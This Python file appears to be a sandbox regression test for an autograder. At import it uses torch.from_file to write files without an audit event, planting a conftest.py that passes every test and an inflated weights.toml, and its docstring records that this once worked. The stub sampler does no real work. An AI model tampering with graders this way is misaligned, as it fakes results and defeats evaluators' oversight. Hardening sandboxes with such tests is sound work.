"""Cheat: plant a conftest.py in the instructor's checkout and rewrite the exercise weights, from C++.

torch.from_file(..., shared=True) creates and writes a file with no Python audit event, and the static
rules allow torch. On main 6d958a7 this planted tests/conftest.py (the next grading of untouched templates
scored full) and rewrote grading/weights.toml. In the grading jail the checkout is out of sight and every
file system but the jail's scratch is read-only: the write fails, and the sampler below fails its tests.
"""
import torch

_CONFTEST = b"import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n    yield\n"
_WEIGHTS = b'[weights]\n"1.4-1.5 distributed sampler" = 99\n'


def _plant(path: str, payload: bytes) -> None:
    target = torch.from_file(path, shared=True, size=len(payload), dtype=torch.uint8)
    target.copy_(torch.frombuffer(bytearray(payload), dtype=torch.uint8))


for _root in ("", "/proc/self/cwd/", "/autograder/source/"):
    _plant(_root + "tests/conftest.py", _CONFTEST)  # raises where the wall holds: the reason graded
    _plant(_root + "grading/weights.toml", _WEIGHTS)


class DistributedSampler:
    def __init__(self, dataset, num_replicas=None, rank=None, shuffle=True, seed=0, drop_last=False):
        self.n = len(dataset)

    def __iter__(self):
        return iter(range(self.n))

    def __len__(self):
        return self.n

    def set_epoch(self, epoch):
        pass
